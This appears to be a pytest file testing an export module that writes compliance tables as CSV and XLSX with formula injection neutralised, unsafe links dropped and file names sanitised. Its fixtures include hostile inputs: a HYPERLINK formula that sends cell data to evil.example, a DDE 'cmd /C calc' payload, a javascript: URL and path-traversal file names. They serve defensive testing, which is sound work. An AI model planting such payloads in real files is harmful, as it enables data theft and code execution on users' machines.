"""Downloads of a table as a journalist opens them: the CSV read back with the csv module, the XLSX with openpyxl."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime

import duckdb
import openpyxl
import pandas as pd
import pytest

from integritas.export import Column, Export, file_name, sources_csv, to_csv, to_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1+1"]
QUOTE = 'Kab. Sabu Raijua meraih "zona hijau" — nilai 80,93\nbaris kedua: «kutipan»'
MADE = datetime(2026, 12, 1, 9, 30)


def _sources() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "id": ["src-ombudsman-2021", "src-js", "src-formula"],
            "publisher": ["Ombudsman RI Perwakilan NTT", "Situs jahat", "=cmd|' /C calc'!A0"],
            "title": ["Hasil penilaian kepatuhan 2021", None, "-1+1"],
            "url": ["https://ombudsman.go.id/perwakilan/news/r/ntt-2021", "javascript:alert(1)", "@evil"],
            "published_on": [pd.Timestamp("2021-12-15"), pd.NaT, pd.Timestamp("2022-01-03")],
            "quote": [QUOTE, "x", "+62 380 123"],
            "note": [None, None, "\t=2"],
        }
    )


def _export(lang: str = "id", **changes: object) -> Export:
    rows = pd.DataFrame(
        {
            "kode": ["53.71", "53.10", "53.20", "53.01"],
            "nama": ["Kota Kupang", HOSTILE[0], "-2+3", "Kab. Kupang"],
            "score": [80.93, None, -5.0, 37.86],
            "laporan": [1106, 42, None, 7],  # a count with a gap: pandas holds it as float
            "date": [pd.Timestamp("2021-03-04"), pd.NaT, pd.Timestamp("2019-01-01"), pd.Timestamp("2024-12-31")],
            "date_precision": ["day", None, "year", "day"],
            "disputed": [True, False, None, False],
            "source_id": ["src-ombudsman-2021", "src-js", "src-formula", None],
            "internal": ["x", "y", "z", "w"],  # not listed: not written
        }
    )
    label = {"id": ("Kode", "Nama", "Skor", "Laporan", "Tanggal", "Presisi", "Diperdebatkan")}.get(
        lang, ("Code", "Name", "Score", "Reports", "Date", "Precision", "Disputed")
    )
    names = ("kode", "nama", "score", "laporan", "date", "date_precision", "disputed")
    args: dict[str, object] = {
        "title": "Zona kepatuhan pemda NTT, 2021",
        "columns": [Column(n, lab) for n, lab in zip(names, label, strict=True)],
        "rows": rows,
        "sources": _sources(),
        "citation": 'Integritas NTT (2026). "Zona kepatuhan pemda NTT, 2021". Versi data 2026-11-30-3f9a1c.',
        "permalink": "https://integritas.example/kepatuhan?tahun=2021&versi=2026-11-30-3f9a1c",
        "version": "2026-11-30-3f9a1c",
        "lang": lang,
    }
    return Export(**{**args, **changes})  # type: ignore[arg-type]


def _read_csv(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM, so spreadsheets read the accents"
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))


def _book(e: Export) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(to_xlsx(e, made=MADE)))


def _column(ws: openpyxl.worksheet.worksheet.Worksheet, header: str) -> list[object]:
    (col,) = [c.column for c in ws[1] if c.value == header]
    return [ws.cell(row=r, column=col).value for r in range(2, ws.max_row + 1)]


# ---------------------------------------------------------------- CSV


def test_csv_has_one_header_row_with_label_and_schema_name_then_machine_values() -> None:
    table = _read_csv(to_csv(_export()))
    header, *rows = table
    assert header == [
        "Kode (kode)",
        "Nama (nama)",
        "Skor (score)",
        "Laporan (laporan)",
        "Tanggal (date)",
        "Presisi (date_precision)",
        "Diperdebatkan (disputed)",
        "Sumber (source_id)",  # the row's source is kept although the caller did not list it
    ]
    assert len(rows) == 4 and all(len(r) == len(header) for r in rows)
    kupang = dict(zip(header, rows[0], strict=True))
    assert kupang["Kode (kode)"] == "53.71"  # text that looks like a number stays as typed
    assert float(kupang["Skor (score)"]) == 80.93 and kupang["Skor (score)"] == "80.93"  # never "80,93"
    assert kupang["Laporan (laporan)"] == "1106"  # a count, not "1106.0"
    assert kupang["Tanggal (date)"] == "2021-03-04" and kupang["Presisi (date_precision)"] == "day"
    assert kupang["Diperdebatkan (disputed)"] == "true" and rows[1][6] == "false"
    assert kupang["Sumber (source_id)"] == "src-ombudsman-2021"
    assert not any("internal" in h for h in header)


def test_csv_leaves_unknown_values_empty() -> None:
    rows = _read_csv(to_csv(_export()))[1:]
    assert rows[1][2] == "" and rows[1][4] == "" and rows[1][5] == ""  # None score, NaT date, None precision
    assert rows[2][3] == "" and rows[2][6] == ""  # NaN count, None boolean
    assert rows[3][7] == ""
    assert not any(cell in ("nan", "NaN", "NaT", "None", "<NA>", "–") for row in rows for cell in row)


def test_csv_neutralises_formulas_but_keeps_negative_numbers() -> None:
    rows = _read_csv(to_csv(_export()))[1:]
    assert rows[1][1] == "'" + HOSTILE[0]
    assert rows[2][1] == "'-2+3"
    assert rows[2][2] == "-5" and float(rows[2][2]) == -5  # a real number is never prefixed


@pytest.mark.parametrize("text", HOSTILE)
def test_every_formula_shape_is_neutralised_in_csv_and_xlsx(text: str) -> None:
    e = _export(rows=pd.DataFrame({"nama": [text]}), columns=[Column("nama", "Nama")])
    assert _read_csv(to_csv(e))[1] == ["'" + text]
    cell = _book(e)["Data"]["A2"]
    # a cell of XML text holds a CR as a line feed: the same line break, still neutralised
    assert cell.value == "'" + text.replace("\r", "\n") and cell.data_type == "s"


def test_csv_is_rfc_4180_with_crlf_and_quoted_line_breaks() -> None:
    e = _export(rows=pd.DataFrame({"note": ['a "b", c\nd']}), columns=[Column("note", "Catatan")])
    raw = to_csv(e)
    assert raw == '\ufeffCatatan (note)\r\n"a ""b"", c\nd"\r\n'.encode()
    assert _read_csv(raw)[1] == ['a "b", c\nd']


def test_csv_of_what_duckdb_gives_a_page() -> None:
    # A DATE comes as a midnight Timestamp, a DECIMAL as float, an INTEGER with NULL as Int32 with <NA>.
    rows = duckdb.sql(
        "SELECT * FROM (VALUES"
        " (DATE '2025-02-27', 80.93::DECIMAL(5,2), 1106::INTEGER, TIMESTAMP '2026-01-02 00:00:00'),"
        " (NULL, NULL, NULL, TIMESTAMP '2026-01-02 03:04:05')) t(date, score, value, made_at)"
    ).df()
    cols = [Column("date", "Tanggal"), Column("score", "Skor"), Column("value", "Nilai"), Column("made_at", "Waktu")]
    out = _read_csv(to_csv(_export(rows=rows, columns=cols)))[1:]
    assert out == [["2025-02-27", "80.93", "1106", "2026-01-02 00:00:00"], ["", "", "", "2026-01-02 03:04:05"]]


def test_sources_csv_holds_every_source_verbatim() -> None:
    header, *rows = _read_csv(sources_csv(_export()))
    assert [h.rsplit(" (", 1)[1] for h in header] == [
        "id)",
        "publisher)",
        "title)",
        "url)",
        "published_on)",
        "quote)",
        "note)",
    ]
    assert rows[0][0] == "src-ombudsman-2021" and rows[0][5] == QUOTE and rows[0][4] == "2021-12-15"
    assert rows[2][1] == "'=cmd|' /C calc'!A0" and rows[2][3] == "'@evil" and rows[2][5] == "'+62 380 123"
    assert rows[1][4] == "" and rows[1][2] == ""


# ---------------------------------------------------------------- XLSX


def test_xlsx_sheets_are_named_in_the_page_language() -> None:
    assert _book(_export("id")).sheetnames == ["Data", "Sumber", "Kutipan"]
    assert _book(_export("en")).sheetnames == ["Data", "Sources", "Citation"]


def test_xlsx_header_in_the_page_language_with_the_schema_name_as_comment() -> None:
    ws = _book(_export("en"))["Data"]
    assert [c.value for c in ws[1]] == ["Code", "Name", "Score", "Reports", "Date", "Precision", "Disputed", "Source"]
    assert [c.comment.text for c in ws[1]] == [
        "kode",
        "nama",
        "score",
        "laporan",
        "date",
        "date_precision",
        "disputed",
        "source_id",
    ]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert all(ws.column_dimensions[c.column_letter].width >= 8 for c in ws[1])
    assert ws.column_dimensions["B"].width > ws.column_dimensions["A"].width  # the long name gets room


def test_xlsx_cells_are_typed_machine_values() -> None:
    ws = _book(_export())["Data"]
    score, count, day, disputed = (_column(ws, h) for h in ("Skor", "Laporan", "Tanggal", "Diperdebatkan"))
    assert score[0] == 80.93 and isinstance(score[0], float)
    assert count[0] == 1106 and isinstance(count[0], int)
    assert score[2] == -5 and isinstance(score[2], int | float)  # a negative number stays a number
    assert ws["E2"].is_date and ws["E2"].number_format == "yyyy-mm-dd" and day[0].date() == date(2021, 3, 4)
    assert disputed[:2] == [True, False]
    assert _column(ws, "Kode")[1] == "53.10"  # text that looks like a number stays text


def test_xlsx_leaves_unknown_values_empty() -> None:
    ws = _book(_export())["Data"]
    assert _column(ws, "Skor")[1] is None and _column(ws, "Tanggal")[1] is None
    assert _column(ws, "Laporan")[2] is None and _column(ws, "Diperdebatkan")[2] is None
    assert _column(ws, "Sumber")[3] is None


def test_xlsx_neutralises_formulas_and_never_stores_one() -> None:
    wb = _book(_export())
    assert _column(wb["Data"], "Nama")[1:3] == ["'" + HOSTILE[0], "'-2+3"]
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not re.match(r"\s*[=+\-@]|[\t\r]", cell.value), (ws.title, cell.coordinate)


def test_xlsx_replaces_control_characters_visibly_instead_of_crashing() -> None:
    e = _export(rows=pd.DataFrame({"nama": ["Kupang\x00\x07\x1b!"]}), columns=[Column("nama", "Nama")])
    assert _book(e)["Data"]["A2"].value == "Kupang\ufffd\ufffd\ufffd!"


def test_xlsx_sources_sheet_holds_every_source_with_only_http_links() -> None:
    ws = _book(_export())["Sumber"]
    assert [c.comment.text for c in ws[1]] == ["id", "publisher", "title", "url", "published_on", "quote", "note"]
    ids = [c.value for c in ws["A"][1:]]
    assert ids == ["src-ombudsman-2021", "src-js", "src-formula"]
    quote_col = [c.column_letter for c in ws[1] if c.comment.text == "quote"][0]
    assert ws[f"{quote_col}2"].value == QUOTE  # accents, quotes and the line break as published
    url_col = [c.column_letter for c in ws[1] if c.comment.text == "url"][0]
    good, bad, at = ws[f"{url_col}2"], ws[f"{url_col}3"], ws[f"{url_col}4"]
    assert good.hyperlink is not None and good.hyperlink.target == "https://ombudsman.go.id/perwakilan/news/r/ntt-2021"
    assert bad.value == "javascript:alert(1)" and bad.hyperlink is None
    assert at.value == "'@evil" and at.hyperlink is None
    day_col = [c.column_letter for c in ws[1] if c.comment.text == "published_on"][0]
    assert ws[f"{day_col}2"].is_date and ws[f"{day_col}2"].value.date() == date(2021, 12, 15)
    assert ws[f"{day_col}3"].value is None
    assert ws["B4"].value == "'=cmd|' /C calc'!A0"


def test_xlsx_citation_sheet_says_how_to_cite_the_table() -> None:
    e = _export("en")
    ws = _book(e)["Citation"]
    values = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2) for r in range(1, ws.max_row + 1)}
    assert values["Title"].value == "Zona kepatuhan pemda NTT, 2021"
    assert any(c.value == e.citation for c in values.values())
    permalink = [c for c in values.values() if c.value == e.permalink]
    assert len(permalink) == 1 and permalink[0].hyperlink.target == e.permalink
    assert any(c.value == "2026-11-30-3f9a1c" for c in values.values())
    assert values["Made on"].is_date and values["Made on"].value.date() == date(2026, 12, 1)
    assert all(ws.cell(row=r, column=1).font.bold for r in values_rows(ws))
    kutipan = _book(_export("id"))["Kutipan"]
    assert "Dibuat" in {kutipan.cell(row=r, column=1).value for r in values_rows(kutipan)}


def values_rows(ws: openpyxl.worksheet.worksheet.Worksheet) -> range:
    return range(1, ws.max_row + 1)


def test_xlsx_workbook_properties_name_the_table_and_its_maker() -> None:
    props = _book(_export()).properties
    assert props.title == "Zona kepatuhan pemda NTT, 2021" and props.creator == "Integritas NTT"


def test_xlsx_with_no_sources_still_opens() -> None:
    wb = _book(_export(sources=pd.DataFrame()))
    assert wb["Sumber"].max_row == 1 and len(list(wb["Sumber"][1])) == 7


def test_a_misspelt_column_is_refused_when_the_export_is_built() -> None:
    with pytest.raises(ValueError, match="skor"):
        _export(columns=[Column("skor", "Skor")])


# ---------------------------------------------------------------- file name

SAFE = re.compile(r"[a-z0-9][a-z0-9-]*(_[a-z0-9][a-z0-9-]*)?\.[a-z0-9]+")


def test_file_name_reads_stem_version_and_extension() -> None:
    assert file_name("kepatuhan-2021", "2026-11-30-3f9a1c", "csv") == "kepatuhan-2021_2026-11-30-3f9a1c.csv"
    assert file_name("Zona Kepatuhan — Ndao Nusa", "2026-11-30-3f9a1c", ".XLSX").endswith(".xlsx")


@pytest.mark.parametrize(
    "stem",
    [
        "../../etc/passwd",
        "..\\..\\windows\\system32",
        ".bashrc",
        "con",
        'a/b\\c:d*e?f"g<h>i|j',
        "nul\x00byte\r\nnewline",
        "Kepatuhan é ü 2021",
        "",
        "—",
        "x" * 500,
        "=HYPERLINK(1)",
    ],
)
def test_file_name_is_safe_for_hostile_stems(stem: str) -> None:
    for version in ("2026-11-30-3f9a1c", "../x", ""):
        name = file_name(stem, version, "csv")
        assert SAFE.fullmatch(name), name
        assert ".." not in name and len(name) <= 120
        assert name.split(".")[0] not in {"con", "nul", "prn", "aux"}  # Windows refuses these base names


def test_file_name_keeps_accented_letters_readable() -> None:
    assert file_name("Kepatuhan é ü 2021", "v1", "csv") == "kepatuhan-e-u-2021_v1.csv"
